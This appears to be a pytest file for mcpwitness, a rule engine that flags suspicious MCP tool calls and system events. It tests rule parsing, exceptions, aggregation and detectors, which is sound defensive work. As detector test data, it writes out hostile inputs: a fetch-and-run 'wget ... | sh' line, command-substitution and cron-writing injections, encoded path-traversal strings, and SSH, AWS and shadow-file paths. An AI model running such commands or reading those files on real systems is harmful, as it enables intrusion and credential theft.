"""The rule language and the rule files, without a kernel: parsing, checking
(file:line: reason), lists, macros, exceptions, overrides, and the detectors
on hand-made records."""
import json
import os
import shutil
import subprocess
import sys

import pytest

from mcpwitness.decode.flags import Flagger
from mcpwitness.detect import rules
from mcpwitness.detect.detectors import Detectors, settings
from mcpwitness.detect.engine import Engine, RuleSource, falco_json
from mcpwitness.records import Alert

MW = shutil.which("mcpwitness") or os.path.join(os.path.dirname(sys.executable), "mcpwitness")


def ruleset(tmp_path, text, defaults=False):
    p = tmp_path / "r.yaml"
    p.write_text(text)
    src = RuleSource([str(p)], defaults=defaults)
    return src, src.load()


def engine(tmp_path, text, **kw):
    src, rs = ruleset(tmp_path, text)
    return Engine(src, Flagger(), ruleset=rs, **kw)


def refused(tmp_path, text):
    with pytest.raises(rules.RuleError) as e:
        ruleset(tmp_path, text)
    return str(e.value)


def test_default_rules_are_valid_and_typed():
    rs = RuleSource().load()
    assert len(rs.rules) >= 19 and not rs.warnings
    assert all(r.types for r in rs.rules), "every default rule names its record types (indexed, fast)"
    assert all(r.desc and r.tags for r in rs.rules)


@pytest.mark.parametrize("text,where,why", [
    ("- rule: a\n  condition: type = mcp and (kind = request\n  output: x\n  priority: warning\n",
     ":2:", "unexpected end of condition"),
    ("- rule: a\n  condition: type = mcp and nosuchfield = 1\n  output: x\n  priority: warning\n",
     ":2:", "unknown field 'nosuchfield'"),
    ("- rule: a\n  condition: type = mcp and path = /x\n  output: x\n  priority: warning\n",
     ":2:", "field 'path' is not in mcp records"),
    ("- rule: a\n  condition: type = mcpp\n  output: x\n  priority: warning\n", ":2:", "unknown record type 'mcpp'"),
    ("- list: l\n  items: [a]\n\n- rule: a\n  condition: type = mcp\n  output: x\n  priority: loud\n",
     ":7:", "priority must be one of"),
    ("- rule: a\n  condition: type = mcp\n  output: '%call.tol'\n  priority: warning\n",
     ":3:", "unknown field 'call.tol'"),
    ("- rule: a\n  output: x\n  priority: warning\n", ":1:", "condition is required"),
    ("- rule: a\n  condition: type = mcp\n  output: x\n  priority: info\n  colour: red\n", ":1:", "unknown keys ['colour']"),
    ("- macro: m\n  condition: m2\n- macro: m2\n  condition: m\n", ":", "refers to itself"),
    ("- rule: a\n  condition: type = mcp\n  output: x\n  priority: warning\n  exceptions:\n    - name: e\n"
     "      fields: [method, tool]\n      values: [[a]]\n", ":", "one entry per field"),
    ("- rule: a\n  condition: type = mcp\n  output: x\n  priority: warning\n  exceptions:\n    - name: e\n"
     "      fields: method\n      comps: regex\n      values: ['(']\n", ":", "bad pattern"),
    ("- detector: rate\n  windw: 3s\n", ":1:", "unknown setting 'windw'"),
    ("- detector: rate\n  window: soon\n", ":1:", "not a duration"),
    ("rule: a\n", ":1:", "a rules file is a list"),
    ("- rule: a\n  condition: [\n", ":", "not valid YAML"),
    ("- list: l\n  items: [a]\n  append: true\n- rule: b\n  condition: x\n", ":", "append to a list that is not defined"),
])
def test_bad_files_are_refused_with_file_line_and_reason(tmp_path, text, where, why):
    msg = refused(tmp_path, text)
    assert msg.startswith(str(tmp_path / "r.yaml") + where), msg
    assert why in msg, msg


def rec(**kw):
    return {"type": "open", "pid": 1, "path": "/etc/passwd", "risk": "read", "sensitive": "system accounts",
            "attribution": {"quality": "exact", "call": None}, **kw}


def test_operators_lists_macros(tmp_path):
    e = engine(tmp_path, """
- list: secrets
  items: [/etc/shadow, /etc/passwd]
- list: secrets
  items: [/etc/gshadow]
  append: true
- macro: secret_open
  condition: type = open and path in (secrets)
- macro: secret_open
  condition: or path glob "/root/.ssh/*"
  append: true
- rule: r
  condition: secret_open and not risk = write and pid > 0 and path startswith /etc and path contains pass
    and comm icontains CAT and flags intersects (O_RDONLY, X) and path regex "^/etc/[a-z]+$" and sensitive exists
    and not error exists and path != /x
  output: "%path by %comm (%{attribution.quality})"
  priority: notice
  once_per: record
- rule: r2
  condition: secret_open and path = /etc/gshadow
  output: appended
  priority: notice
  once_per: record
""")
    a = e.process([rec(comm="cat", flags=["O_RDONLY"])])
    assert [x.output for x in a] == ["/etc/passwd by cat (exact)"]
    assert a[0].fields == {"path": "/etc/passwd", "comm": "cat", "attribution.quality": "exact"}
    assert not e.process([rec(comm="cat", flags=["O_WRONLY"])])
    assert not e.process([rec(comm="cat", flags=["O_RDONLY"], error="EACCES")])
    assert not e.process([rec(comm="cat", flags=["O_RDONLY"], path="/etc/hosts")])
    assert [x.output for x in e.process([rec(path="/etc/gshadow")])] == ["appended"]  # appended to the list


def test_missing_fields_never_match(tmp_path):
    e = engine(tmp_path, "- rule: r\n  condition: type = connect and (port > 1 or port = 0 or port != 5 or port in (1)"
                         " or port contains 1 or port startswith 1 or port glob '*')\n"
                         "  output: x\n  priority: notice\n  once_per: record\n")
    assert not e.process([{"type": "connect", "pid": 1, "unix_path": "/run/x.sock"}])
    assert e.process([{"type": "connect", "pid": 1, "port": 5}])


def test_exceptions_override_disable_and_append(tmp_path):
    p1 = tmp_path / "a.yaml"
    p1.write_text("""
- rule: opened
  condition: type = open
  output: "%path"
  priority: warning
  once_per: record
  exceptions:
    - name: cats
      fields: [comm, path]
      comps: [=, startswith]
      values: [[cat, /etc]]
- rule: other
  condition: type = open
  output: other
  priority: notice
  once_per: record
""")
    p2 = tmp_path / "b.yaml"
    p2.write_text("""
- rule: opened
  append: true
  exceptions:
    - name: dogs
      condition: comm = dog
- rule: other
  enabled: false
""")
    src = RuleSource([str(p1), str(p2)], defaults=False)
    e = Engine(src)
    assert [a.rule for a in e.process([rec(comm="cat")])] == []
    assert [a.rule for a in e.process([rec(comm="dog")])] == []
    assert [a.rule for a in e.process([rec(comm="cow")])] == ["opened"]
    assert [a.rule for a in e.process([rec(comm="cat", path="/root/x")])] == ["opened"]


def test_once_per_call(tmp_path):
    e = engine(tmp_path, "- rule: r\n  condition: type = open\n  output: x\n  priority: notice\n")
    d = e.detectors
    d.calls["c1"] = d.calls.get("c1")  # no call info: the id alone links
    evs = [rec(attribution={"quality": "exact", "call": "c1"}) for _ in range(3)]
    assert len(e.process(evs)) == 1 and e.stats["suppressed"] == 2


def mcp_req(i, t_s, method="tools/call", name="ping", args=None, session="s", size=50):
    return {"type": "mcp", "session": session, "direction": "client->server", "kind": "request", "id": i,
            "method": method, "ktime_ns": int(t_s * 1e9), "size": size,
            "params": {"name": name, "arguments": args or {}}}


def test_rate_detector_baseline_then_burst():
    d = Detectors(settings(None))  # the defaults catch the example
    fired = []
    t = 0.0
    for i in range(40):                 # 2-3 calls a minute for 15 minutes
        t += 24
        fired.append(d.observe(mcp_req(i, t), "mcp")["rate"]["client"]["burst"])
    assert not any(fired)
    burst = [d.observe(mcp_req(100 + i, t + 1 + i * 0.1), "mcp")["rate"]["client"] for i in range(30)]
    first = [i for i, r in enumerate(burst) if r["burst"]]
    # the window also holds the last steady call: the 9th of the burst is the 10th in it (min_calls)
    assert first == [8], "fires once, when the window reaches min_calls"
    assert 2 <= burst[9]["baseline_per_min"] <= 3


def test_args_detector_patterns():
    d = Detectors(settings(None), Flagger())
    d.sessions.touch("s", lambda: None)

    def facts(**args):
        return d.observe(mcp_req(1, 1, args=args), "mcp")["args"]

    for bad in ("../../etc/x", "a/..\\b", "%2e%2e%2fetc", "%252e%252e/x", "..%c0%afetc", "\uff0e\uff0e/x"):
        assert facts(p=bad)["traversal"], bad
    for ok in ("v1..v2", "notes..txt", "a/b/c", "100%", "...", "x..y/z"):
        assert not facts(p=ok)["traversal"], ok
    for bad in ("a; curl x", "$(id)", "`whoami`", "x && sh -c y", "x | bash", "echo 1 > /etc/cron.d/x",
                "wget -O- http://h | sh"):
        assert facts(c=bad)["shell_meta"], bad
    for ok in ("Tom & Jerry; a classic | more or less", "cost: $5 (approx)", "a > b", "x;y"):
        assert not facts(c=ok)["shell_meta"], ok
    assert facts(p="/root/.ssh/id_rsa")["sensitive"] and facts(p="~/.aws/credentials")["sensitive"]
    assert facts(p="file:///etc/shadow")["sensitive"] and not facts(p="/etc/hostname")["sensitive"]
    assert facts(nested={"list": ["/etc/../etc/shadow"]})["sensitive"][0].startswith("nested.list[0]=")
    assert facts(t="ab" * 600)["repeated"] and not facts(t="ab" * 400)["repeated"]
    assert facts(t="x" * 9000)["long"]
    assert facts(p="/etc/x")["outside_roots"] is None  # no roots declared: not judged


def test_falco_shape():
    a = Alert(rule="r", priority="warning", output="o", tags=["t"], time="2026-01-01T00:00:00.1Z", ktime_ns=1,
              fields={"path": "/x"}, call_id="abc", session="s", tool=None, pid=4, source="open", candidates=None)
    f = falco_json(a, "h")
    assert f["priority"] == "Warning" and f["source"] == "mcpwitness" and f["hostname"] == "h"
    assert f["output_fields"] == {"path": "/x", "mcpwitness.call_id": "abc", "mcpwitness.session": "s",
                                  "mcpwitness.pid": 4, "mcpwitness.source": "open"}


def test_replay_survives_garbage(tmp_path):
    """Binary garbage, truncated lines, JSON that is not a record: counted, skipped, the rest still judged."""
    f = tmp_path / "mixed.jsonl"
    good = json.dumps(mcp_req(1, 1, args={"p": "../../etc/passwd"}))
    f.write_bytes(b"\x00\xff\xfe garbage\n" + b'{"type": "mcp", "sess\n' + b"[1, 2]\n" + b"42\n"
                  + good.encode() + b"\n")
    p = subprocess.run([MW, "detect", "--replay", str(f)], capture_output=True, text=True, timeout=60)
    assert p.returncode == 0, p.stderr
    out = [json.loads(x) for x in p.stdout.splitlines()]
    assert {a["rule"] for a in out} == {"Path traversal in tool arguments", "Sensitive path in tool arguments"}
    assert "skipped 4 lines" in p.stderr


def test_detect_check_refuses_a_bad_file(tmp_path):
    bad = tmp_path / "bad.yaml"
    bad.write_text("- rule: x\n  condition: type = open and\n  output: x\n  priority: warning\n")
    p = subprocess.run([MW, "detect", "--check", "--rules", str(bad)], capture_output=True, text=True, timeout=60)
    assert p.returncode == 1 and f"{bad}:2: rule 'x': condition: unexpected end of condition" in p.stderr
    p = subprocess.run([MW, "detect", "--check"], capture_output=True, text=True, timeout=60)
    assert p.returncode == 0 and "Tool ran a shell" in p.stdout


def test_every_default_rule_has_its_end_to_end_tests():
    """A new default rule without its trigger and near-miss in the end-to-end tests
    (test_detect.py, test_identity.py) fails here."""
    here = os.path.dirname(os.path.abspath(__file__))
    src = ""
    for name in ("test_detect.py", "test_identity.py"):
        with open(os.path.join(here, name)) as f:
            src += f.read()
    for r in RuleSource().load().rules:
        n = src.count(f'"{r.name}"')
        assert n >= 2, f"{r.name!r} is named {n} times in the end-to-end tests (a trigger and a near-miss each name it)"


def test_adversarial_arguments_do_not_stall_the_detectors():
    """Arguments are the attacker's input: 1 MB strings built against each pattern must
    be judged in linear time. (A backtracking pattern took 6 s on 160 KB of 'cat cat ...'
    and would hold the decode thread for minutes on 1 MB; the timeout is the guard.)"""
    code = ("from mcpwitness.detect.detectors import Args, settings\n"
            "from mcpwitness.decode.flags import Flagger\n"
            "a = Args(settings(None)['args'], Flagger())\n"
            "for s in ('cat ' * 250000, '$(' * 500000, '${' * 500000, '; ' * 500000, '../' * 333333,\n"
            "          '%2e%2e%2f' * 100000, '> ' * 500000, '`' * 1000000):\n"
            "    a.observe({'x': s, 'y': [s[:5000]] * 3}, ['/srv'])\n"
            "print('ok')\n")
    p = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=60)
    assert p.returncode == 0 and p.stdout.strip() == "ok", p.stderr


def test_min_priority_runs_only_rules_at_or_above_it(tmp_path):
    p = tmp_path / "r.yaml"
    p.write_text("- rule: low\n  condition: type = open\n  output: low\n  priority: notice\n  once_per: record\n"
                 "- rule: high\n  condition: type = open\n  output: high\n  priority: critical\n  once_per: record\n")
    for minimum, expect in ((None, ["low", "high"]), ("warning", ["high"]), ("critical", ["high"]),
                            ("alert", [])):
        e = Engine(RuleSource([str(p)], defaults=False, min_priority=minimum))
        assert [a.rule for a in e.process([rec()])] == expect, minimum
    with pytest.raises(rules.RuleError):
        RuleSource([str(p)], defaults=False, min_priority="loud")


AGG = """
- rule: asked
  condition: type = mcp and kind = request
  output: "asked %method"
  priority: NOTICE
  once_per: record
  aggregate: 10s
  aggregate_by: [method]
"""


def req(method, t_s, i):
    return {"type": "mcp", "kind": "request", "direction": "client->server", "method": method, "id": i,
            "session": "s", "ktime_ns": int(t_s * 1e9), "time": f"t{t_s}", "params": {}}


def test_aggregation_window_closes_on_record_time_with_the_exact_count(tmp_path):
    e = engine(tmp_path, AGG)
    out = e.process([req("tools/call", 1, 1), req("tools/call", 2, 2), req("tools/list", 3, 3),
                     req("tools/call", 5, 4)])
    assert [(a.fields.get("method"), a.count) for a in out] == [("tools/call", 1), ("tools/list", 1)]
    assert out[0].group and out[0].group != out[1].group
    # a record 12 s after the first: the tools/call window (opened at 1 s) closes, tools/list's (3 s) not yet
    late = e.process([req("resources/list", 12, 5)])
    assert [(a.count, a.first_time, a.last_time) for a in late[:1]] == [(3, "t1", "t5")]
    assert late[0].group == out[0].group and late[0].output.endswith("[3 times from t1 to t5]")
    assert [a.fields.get("method") for a in late[1:]] == ["resources/list"]
    # the window closed: tools/call starts a new one
    again = e.process([req("tools/call", 13, 6)])
    assert len(again) == 1 and again[0].count == 1 and again[0].group != out[0].group
    # the stop: open windows with repeats give their summary; those without repeats nothing
    e.process([req("tools/call", 14, 7)])
    final = e.flush()
    assert [(a.fields.get("method"), a.count) for a in final] == [("tools/call", 2)]
    assert e.stats["aggregated"] == 3 and sum(e.alert_counts.values()) == 7   # every match counted


def test_aggregate_setting_is_checked(tmp_path):
    assert "aggregate" in refused(tmp_path, AGG.replace("aggregate: 10s", "aggregate: soon"))
    assert "aggregate_by" in refused(tmp_path, AGG.replace("[method]", "[no.such.field]"))


def test_the_default_rules_pass_their_shipped_cases():
    """`detect --test`: the recorded cases the default rules ship with (detect/cases)."""
    p = subprocess.run([MW, "detect", "--test"], capture_output=True, text=True, timeout=300)
    assert p.returncode == 0, p.stdout + p.stderr
    assert "PASS  triggers" in p.stdout and "PASS  near_misses" in p.stdout and "PASS  identity" in p.stdout
    assert "PASS  declared" in p.stdout and "PASS  declared_near" in p.stdout
    assert "7 of 7 cases passed" in p.stderr


def test_a_failing_case_is_reported_and_fails_the_run(tmp_path):
    from mcpwitness.detect.cases import CASES_DIR
    shutil.copy(os.path.join(CASES_DIR, "near_misses.jsonl"), tmp_path / "mine.jsonl")
    (tmp_path / "mine.expect.yaml").write_text(
        "alerts:\n  - {rule: Tool ran a shell}\n  - {rule: New client-server pair, count: 2}\n"
        "absent: [Server ran a new program, No such rule]\n")
    shutil.copy(os.path.join(CASES_DIR, "near_misses.jsonl"), tmp_path / "broken.jsonl")
    (tmp_path / "broken.expect.yaml").write_text("alerts:\n  - {rule: x, cunt: 1}\n")
    shutil.copy(os.path.join(CASES_DIR, "near_misses.jsonl"), tmp_path / "lonely.jsonl")
    p = subprocess.run([MW, "detect", "--test", str(tmp_path)], capture_output=True, text=True, timeout=300)
    assert p.returncode == 1, p.stdout + p.stderr
    out = p.stdout
    assert "FAIL  mine:" in out and "'Tool ran a shell': not raised" in out
    assert "'New client-server pair': 1 alerts, expected 2" in out
    assert "'Server ran a new program': raised 1 times, expected none" in out and "'No such rule': no such rule" in out
    assert f"FAIL  broken: {tmp_path / 'broken.expect.yaml'}:2:5: each alert is" in out
    assert "FAIL  lonely: no lonely.expect.yaml beside it" in out
    assert "0 of 3 cases passed" in p.stderr


def test_a_snapshot_of_the_detectors_round_trips_and_refuses_other_versions():
    d = Detectors(settings(None))
    for i in range(30):   # a rate key learned over several windows, a size baseline, a tool and a server
        d.rate.observe("client x", i * 5.0)
    d.size.observe("s/t", 1000, 10)
    d.behaviour.called("s/t")
    d.novelty.called("s")
    snap = json.loads(json.dumps(d.snapshot()))
    e = Detectors(settings(None))
    said = e.restore(snap)
    assert said.startswith("baselines restored: 1 rates, 1 sizes, 1 tools, 1 servers"), said
    f = e.rate.observe("client x", 1000.0)
    assert not f["learning"] and f["baseline_per_min"] == pytest.approx(d.rate.keys["client x"].base * 60, rel=1e-3)
    assert Detectors(settings(None)).restore({"v": 99}).startswith("baselines not restored")
    other = settings({"rate": {"window": 30}})
    assert "rates and sizes left out" in Detectors(other).restore(snap)
